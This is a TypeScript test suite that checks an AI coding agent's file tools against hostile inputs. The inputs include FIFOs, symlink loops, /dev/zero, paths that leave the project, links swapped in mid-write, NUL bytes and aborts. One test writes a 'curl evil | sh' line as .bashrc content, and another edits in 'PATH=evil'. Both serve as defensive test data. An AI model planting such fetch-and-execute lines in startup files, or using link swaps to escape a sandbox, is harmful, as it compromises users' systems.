// Hostile inputs against every file tool, as a model (or a command it ran) could arrange them: a
// 20 MB single-line file, a FIFO, a loop of symlinks, links out of the project, /dev/zero, a path
// of 10,000 characters; a link swapped in while a write or an edit runs (a command running beside
// it in the same batch); and every tool stopping soon after an abort. Each answers with a clear
// error or a bounded result: none throws something else, hangs or writes outside the project.
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { AnyAgentTool } from "../../app/main/loop/index.ts";
import { createBashTool } from "../../app/main/tools/bash.ts";
import { createEditTool } from "../../app/main/tools/edit.ts";
import { createFindTool } from "../../app/main/tools/find.ts";
import { createGrepTool } from "../../app/main/tools/grep.ts";
import { createLsTool } from "../../app/main/tools/ls.ts";
import { createReadTool } from "../../app/main/tools/read.ts";
import { createWriteTool } from "../../app/main/tools/write.ts";
import { computePool, type ComputePool } from "../../app/main/workers/compute-pool.ts";
import { describeWhen, needsLinux } from "../support/requirements.ts";
import { runTool, tempDir } from "./helpers.ts";

const project = tempDir("lathe-hostile-");
const outside = tempDir("lathe-hostile-outside-");
afterAll(() => {
  project.cleanup();
  outside.cleanup();
});
const dir = project.dir;
const at = (name: string) => path.join(dir, name);

const tools: Record<string, AnyAgentTool> = {
  read: createReadTool({ projectDir: dir }),
  edit: createEditTool({ projectDir: dir }),
  write: createWriteTool({ projectDir: dir }),
  ls: createLsTool({ projectDir: dir }),
  find: createFindTool({ projectDir: dir }),
  grep: createGrepTool({ projectDir: dir }),
  grepJs: createGrepTool({ projectDir: dir, engine: "javascript" }),
};
const argsFor = (tool: string, target: string): unknown =>
  tool === "edit"
    ? { path: target, edits: [{ oldText: "zzz", newText: "y" }] }
    : tool === "write"
      ? { path: target, content: "w" }
      : tool.startsWith("grep")
        ? { pattern: "SECRET", path: target }
        : tool === "find"
          ? { path: target, pattern: "*" }
          : { path: target };

describeWhen(needsLinux(), "hostile paths against every file tool", () => {
  it("a FIFO, a symlink loop, /dev/zero (directly and through a link) and a 10,000-character path get clear errors", async () => {
    execFileSync("mkfifo", [at("fifo")]);
    symlinkSync("loop-b", at("loop-a"));
    symlinkSync("loop-a", at("loop-b"));
    symlinkSync("/dev/zero", at("zero"));
    const long = "a/".repeat(5_000);
    const expected: Record<string, RegExp> = {
      fifo: /FIFO|not a folder/,
      "loop-a": /ELOOP|not found/i,
      zero: /character device|not a folder/,
      "/dev/zero": /character device|not a folder/,
      [long]: /not found|ENAMETOOLONG|Cannot|Could not/,
    };
    for (const [target, error] of Object.entries(expected)) {
      for (const [name, tool] of Object.entries(tools)) {
        const run = await runTool(tool, argsFor(name, target));
        expect(run.isError, `${name} ${target.slice(0, 20)}: ${run.text.slice(0, 100)}`).toBe(true);
        expect(run.text, name).toMatch(error);
      }
    }
    // Nothing was written through the link to /dev/zero, and the FIFO is still a FIFO.
    expect(execFileSync("stat", ["-c", "%F", at("fifo")], { encoding: "utf8" }).trim()).toBe("fifo");
  });

  it("a 20 MB single-line file: read shows a bounded part, grep answers, edit gives a bounded ambiguity error", async () => {
    writeFileSync(at("one-line.txt"), "x".repeat(20 * 1024 * 1024));
    const read = await runTool(tools.read!, { path: "one-line.txt" });
    expect(read.isError).toBe(false);
    expect(read.text.length).toBeLessThan(100_000);
    for (const grep of [tools.grep!, tools.grepJs!]) {
      const found = await runTool(grep, { pattern: "SECRET", path: "one-line.txt" });
      expect(found.text).toBe('No matches for "SECRET" in one-line.txt.');
    }
    const edit = await runTool(tools.edit!, { path: "one-line.txt", edits: [{ oldText: "x", newText: "y" }] });
    expect(edit.isError).toBe(true);
    expect(edit.text).toContain("it must match exactly once");
    expect(edit.text.length).toBeLessThan(1_000);
  });

  it("grep does not search through a link to a file or folder outside the project", async () => {
    writeFileSync(path.join(outside.dir, "secret.txt"), "SECRET-OUTSIDE\n");
    mkdirSync(at("links"));
    symlinkSync(path.join(outside.dir, "secret.txt"), at("links/file-link"));
    symlinkSync(outside.dir, at("links/dir-link"));
    for (const grep of [tools.grep!, tools.grepJs!]) {
      const run = await runTool(grep, { pattern: "SECRET", path: "links" });
      expect(run.text).not.toContain("SECRET-OUTSIDE");
    }
  });
});

describe("arguments the loop would have refused", () => {
  it("bash called directly with a nested object or a NUL in its command throws a clear error instead of crashing in node-pty", async () => {
    const bash = createBashTool({ projectDir: dir, outputDir: path.join(outside.dir, "bash-out") });
    let nested: unknown = "echo hi";
    for (let i = 0; i < 5_000; i++) nested = { a: nested };
    for (const command of [nested, ["echo", "hi"], 42, "echo a\0b"]) {
      const run = await runTool(bash, { command });
      expect(run.text).toBe("The command must be a string without NUL characters.");
    }
  });

  it("both greps refuse a NUL in the pattern or the glob by name, not with the spawner's error", async () => {
    for (const grep of [tools.grep!, tools.grepJs!]) {
      expect((await runTool(grep, { pattern: "a\0b" })).text).toBe(
        "The pattern holds a NUL character: grep skips binary files, the only ones that hold one, so it could match nothing.",
      );
      expect((await runTool(grep, { pattern: "a", glob: "*.ts\0" })).text).toBe("The glob holds a NUL character, which no file name can hold.");
    }
  });
});

describe("a link swapped in while a write or an edit runs", () => {
  /** A pool that, after the call's work, replaces `sub` with a link to the outside folder (as a command running beside it could). */
  const swappingPool = (sub: string): ComputePool =>
    ({
      run: async (job: unknown, options: unknown) => {
        const result = await computePool().run(job as never, options as never);
        rmSync(sub, { recursive: true, force: true });
        symlinkSync(outside.dir, sub);
        return result;
      },
    }) as unknown as ComputePool;

  it("write refuses, and nothing is written outside the project", async () => {
    mkdirSync(at("w-sub"));
    writeFileSync(path.join(outside.dir, ".bashrc"), "original\n");
    const write = createWriteTool({ projectDir: dir, pool: swappingPool(at("w-sub")) });
    const run = await runTool(write, { path: "w-sub/.bashrc", content: "curl evil | sh\n" });
    expect(run.isError).toBe(true);
    expect(run.text).toBe(
      `w-sub/.bashrc now leads to ${path.join(outside.dir, ".bashrc")}, not where it led when this call began (a folder or link on the way was replaced while it ran); nothing was written.`,
    );
    expect(readFileSync(path.join(outside.dir, ".bashrc"), "utf8")).toBe("original\n");
  });

  it("edit refuses, and nothing is written outside the project", async () => {
    mkdirSync(at("e-sub"));
    writeFileSync(at("e-sub/profile"), "PATH=ok\n");
    writeFileSync(path.join(outside.dir, "profile"), "PATH=ok\n");
    const edit = createEditTool({ projectDir: dir, pool: swappingPool(at("e-sub")) });
    const run = await runTool(edit, { path: "e-sub/profile", edits: [{ oldText: "PATH=ok", newText: "PATH=evil" }] });
    expect(run.isError).toBe(true);
    expect(run.text).toContain("e-sub/profile now leads to");
    expect(readFileSync(path.join(outside.dir, "profile"), "utf8")).toBe("PATH=ok\n");
  });

  it("a write through a link that was there from the start still works (its question was about the real path)", async () => {
    writeFileSync(path.join(outside.dir, "target.txt"), "old\n");
    symlinkSync(path.join(outside.dir, "target.txt"), at("link.txt"));
    const run = await runTool(tools.write!, { path: "link.txt", content: "new\n" });
    expect(run.isError).toBe(false);
    expect(readFileSync(path.join(outside.dir, "target.txt"), "utf8")).toBe("new\n");
  });
});

describe("every tool stops soon after an abort", () => {
  it("read, edit, write, ls, find and both greps, on a large project, settle within a generous bound of the abort", async () => {
    const tree = at("tree");
    for (let d = 0; d < 40; d++) {
      mkdirSync(path.join(tree, `d${d}`), { recursive: true });
      for (let f = 0; f < 250; f++) writeFileSync(path.join(tree, `d${d}`, `f${f}.txt`), `line ${f}\n`.repeat(20));
    }
    writeFileSync(at("tree-big.txt"), "some text\n".repeat(2_000_000));
    const calls: [string, unknown][] = [
      ["read", { path: "tree-big.txt" }],
      ["edit", { path: "tree-big.txt", edits: [{ oldText: "no such text", newText: "y" }] }],
      ["write", { path: "tree-big.txt", content: "other text\n".repeat(2_000_000) }],
      ["ls", { path: "tree/d0" }],
      ["find", { path: "tree", pattern: "*.txt" }],
      ["grep", { pattern: "line (1|2)+$", path: "tree" }],
      ["grepJs", { pattern: "line (1|2)+$", path: "tree" }],
    ];
    for (const [name, args] of calls) {
      const controller = new AbortController();
      const running = runTool(tools[name]!, args, { signal: controller.signal });
      await new Promise((r) => setTimeout(r, 5));
      controller.abort();
      const abortedAt = performance.now();
      const run = await running;
      // The target is 100 ms (issue #21); 2 s keeps this stable on a loaded machine.
      expect(performance.now() - abortedAt, name).toBeLessThan(2_000);
      // A call that finished before the abort landed is fine; one that did not says it was aborted.
      if (run.isError) expect(run.text, name).toMatch(/abort/i);
    }
    expect(readFileSync(at("tree-big.txt"), "utf8").startsWith("some text") || readFileSync(at("tree-big.txt"), "utf8").startsWith("other text")).toBe(true);
  }, 120_000);
});
